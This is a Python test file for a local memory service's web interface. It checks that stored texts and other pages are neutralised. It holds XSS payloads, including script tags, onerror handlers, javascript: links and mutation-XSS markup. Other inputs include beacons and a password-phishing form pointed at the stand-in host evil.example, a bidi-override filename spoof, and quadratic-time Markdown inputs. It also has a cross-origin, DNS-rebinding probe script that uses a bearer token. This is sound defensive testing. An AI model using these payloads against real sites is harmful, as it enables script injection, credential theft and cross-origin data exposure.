"""Attacks on the page: texts with markup, names with reordering marks, texts of a megabyte; and other
pages in the same browser, on another port of this machine, under another name for it, even with a stolen
token. Nothing is executed, and no such page gets an answer."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from ipfsmem.http.running import running
from tests.support.api_lab import TOKEN, opener
from tests.support.page_lab import Shown, looked_at

pytestmark = [pytest.mark.interop, pytest.mark.slow]

AWAY = "https://evil.example"
BODIES = {
    "script": f"<script>document.title='run'</script><script src='{AWAY}/x.js'></script><img src=x onerror=\"document.title='run'\">",
    "style": "<style>*{display:none!important}</style><p style='position:fixed;inset:0;background:red;z-index:99'>cover</p>"
    "<div class='shut' id='content'>cover</div><dialog open>cover</dialog>",
    "remote": f"![spy]({AWAY}/x.png) <img srcset='{AWAY}/y.png 2x' src='//evil.example/z.png'> <video poster='{AWAY}/p.png'></video>"
    f"<link rel=stylesheet href='{AWAY}/s.css'><iframe src='{AWAY}'></iframe><object data='{AWAY}'></object><svg><image href='{AWAY}/i'/></svg>"
    f"<table background='{AWAY}/b.png'><tr><td>x</td></tr></table><base href='{AWAY}/'><meta http-equiv=refresh content='0;url={AWAY}'>",
    "links": "[a](javascript:document.title='run') [b](data:text/html,<script>1</script>) [c](vbscript:x) <a href='jav&#x09;ascript:1'>d</a>"
    " <a href='#/vault' onclick='1'>e</a>",
    "form": "<form action='https://evil.example'><input name=password><button>Log in</button></form><textarea>x</textarea>",
    "foreign": "<svg><script>document.title='run'</script><a xlink:href='javascript:1'>x</a></svg><math><mtext><style><img src=x onerror=1></style>"
    "</mtext></math><template><script>1</script></template><noscript><p title='</noscript><img src=x onerror=1>'></noscript>",
    "deep": "> " * 3_000 + "deep\n\n" + "[" * 5_000 + "\n\n" + "*a " * 5_000,
    # Each would take a parser of Markdown quadratic time: many minutes.
    "stuck": "*a@" * 60_000,
    "stuck_list": "- " + "a\n=\n" * 45_000,
    "huge": ("A line of a text that has very many of them.\n" * 20_000)[:900_000],
}  # fmt: skip
#: An unclosed mark that reverses the following text.
TURNED = "Invoice \u202egnp.exe\u2066 \u202b"


def test_hostile_texts_do_no_harm(tmp_path: Path) -> None:
    with opener(tmp_path)() as memory:
        for key, body in BODIES.items():
            memory.write(
                key,
                f"{body}\n\nFine words.",
                name=f"{TURNED} {key} <b>x</b>",
                description=f"<img src='{AWAY}'> {TURNED}",
            )
        memory.note("said", text=f"<img src='{AWAY}/e.png' onerror=1> {TURNED}")
        seen = memory.write("plan", "One.")
        memory.write("plan", BODIES["script"], seen=seen)
        memory.write("plan", BODIES["remote"], seen=seen)

    async def look(shown: Shown) -> None:
        page = shown.page
        opened: list[Any] = []
        page.on("dialog", lambda one: opened.append(one))
        page.on("popup", lambda one: opened.append(one))
        for view, ready in (
            *((f"memories/{key}", f".facts:has-text('{key}')") for key in BODIES),
            ("timeline", ".events li"), ("conflicts", ".clash"), ("context", ".block"), ("vault", ".cards"),
        ):  # fmt: skip
            await shown.go(view, ready)
            assert await page.title() == "ipfsmem"
            bad = "script, style, form, input, button, textarea, iframe, object, link, base, meta, video, svg image, dialog, template"
            assert await page.locator(f":is(.prose, .events, .sides pre, .block) :is({bad})").count() == 0, (
                view
            )
            assert await page.evaluate("""[...document.querySelectorAll('main *')].every(one =>
                [...one.attributes].every(({name, value}) => !name.startsWith('on') && !/^\\s*(javascript|vbscript|data:text)/i.test(value)))"""), (
                view
            )
            links = await page.evaluate(
                "[...document.querySelectorAll('.prose a[href]')].map(one => [one.rel, one.target, one.protocol])"
            )
            assert all(
                one == ["noopener noreferrer", "_blank", one[2]] and one[2] in ("http:", "https:")
                for one in links
            ), links
            # Nothing covers or shifts the page, or reverses other text.
            assert await page.evaluate("""(() => {
                const link = document.querySelector('nav a').getBoundingClientRect()
                return document.elementFromPoint(link.x + 5, link.y + 5).closest('nav') !== null && document.documentElement.scrollWidth <= innerWidth
            })()"""), view
        turned = await page.evaluate("""[...document.querySelectorAll('[dir=auto]')].filter(one => one.textContent.includes('\\u202e')).every(one =>
            getComputedStyle(one).unicodeBidi.includes('isolate') || getComputedStyle(one).display.match(/block|grid|flex/))""")
        assert turned
        await shown.go("memories/huge", ".prose:has-text('…')")
        assert await page.evaluate("document.querySelector('.prose').textContent.length") < 210_000
        await page.click("button:has-text('Edit')")
        assert (
            await page.evaluate("document.querySelector('textarea').value.length") > 890_000
        )  # the editor has all of it
        await page.click("button:has-text('Cancel')")
        assert opened == [] and len(page.context.pages) == 1

    looked_at(tmp_path, look)


#: Attempts of another page, as statements; each returns what it learned.
TRIES = """async ([url, token]) => {
    const learned = []
    const headers = { Authorization: `Bearer ${token}` }
    const json = { method: 'POST', headers: { ...headers, 'Content-Type': 'application/json' }, body: '{"query":"x"}' }
    const ways = [
        ['/v1/memories/tone', { headers }], ['/v1/memories/tone', {}], ['/v1/recall', json], ['/v1/memories/tone', { method: 'DELETE', headers }],
        ['/v1/memories/new', { ...json, method: 'PUT' }], ['/v1/recall', { method: 'POST', mode: 'no-cors', body: '{"query":"x"}' }],
        ['/v1/session', { method: 'POST', mode: 'no-cors', body: '{"code":"x"}' }], ['/v1/session', json],
        ['/v1/changes', { headers }], ['/v1/export', json], ['/', {}], ['/v1/openapi.json', { headers }],
    ]
    for (const [path, how] of ways) {
        const answer = await fetch(url + path, { credentials: 'include', ...how }).catch(() => null)
        if (answer !== null && answer.type !== 'opaque') learned.push([path, answer.status])
    }
    const load = (name, to) => new Promise(done => {
        setTimeout(() => done(false), 700)
        const one = Object.assign(document.createElement(name), { onload: () => done(true), onerror: () => done(false), [name === 'link' ? 'href' : 'src']: to, rel: 'stylesheet' })
        document.body.append(one)
    }).catch(() => false)
    for (const [name, path] of [['img', '/v1/memories/tone'], ['script', '/v1/memories/tone'], ['link', '/v1/memories/tone']])
        if (await load(name, url + path)) learned.push([name, path])
    await load('iframe', url + '/')
    try { if (frames[0].document.body.textContent) learned.push(['iframe']) } catch { /* another origin */ }
    return learned
}"""


def test_requests_of_other_pages_are_refused(tmp_path: Path) -> None:
    with opener(tmp_path)() as memory:
        memory.write("tone", "Be brief.")

    async def look(shown: Shown) -> None:
        await shown.page.wait_for_selector(".row")
        reached: list[str] = []
        served, doors = shown.lab.served[0], shown.lab.doors
        on, exchange = served.on, doors.exchange

        async def counted(work: Any) -> Any:
            reached.append("memory")
            return await on(work)

        def tried(code: str) -> str | None:
            reached.append("code")
            return exchange(code)

        served.on, doors.exchange = counted, tried  # type: ignore[method-assign]
        port = shown.url.rpartition(":")[2].rstrip("/")

        async def blank(_: web.Request) -> web.Response:
            return web.Response(text="<!doctype html><title>other</title><body>", content_type="text/html")

        app = web.Application()
        app.router.add_get("/", blank)
        async with running(app) as elsewhere:
            other = await shown.page.context.new_page()
            for place in (elsewhere, elsewhere.replace("127.0.0.1", "evil.example")):
                await other.goto(place)
                for name in ("127.0.0.1", "localhost", "evil.example"):
                    assert await other.evaluate(TRIES, [f"http://{name}:{port}", TOKEN]) == [], (place, name)
            # A name that leads here since a moment ago is another origin, and gets no data.
            answer = await other.goto(f"http://evil.example:{port}/")
            assert answer.status == 421 and "memory" not in await other.content()
            answer = await other.goto(f"http://evil.example:{port}/v1/memories/tone")
            assert answer.status == 421
            assert await other.evaluate(TRIES, [f"http://evil.example:{port}", TOKEN]) == [
                [path, 421] for path in (
                    "/v1/memories/tone", "/v1/memories/tone", "/v1/recall", "/v1/memories/tone", "/v1/memories/new", "/v1/recall",
                    "/v1/session", "/v1/session", "/v1/changes", "/v1/export", "/", "/v1/openapi.json",
                )
            ]  # fmt: skip
            await other.close()
        assert reached == []
        served.on, doors.exchange = on, exchange  # type: ignore[method-assign]
        await shown.page.click(".row:has-text('tone')")  # the page itself is answered as before
        await shown.page.wait_for_selector(".prose:has-text('Be brief.')")

    looked_at(tmp_path, look, arguments=["--host-resolver-rules=MAP evil.example 127.0.0.1"])
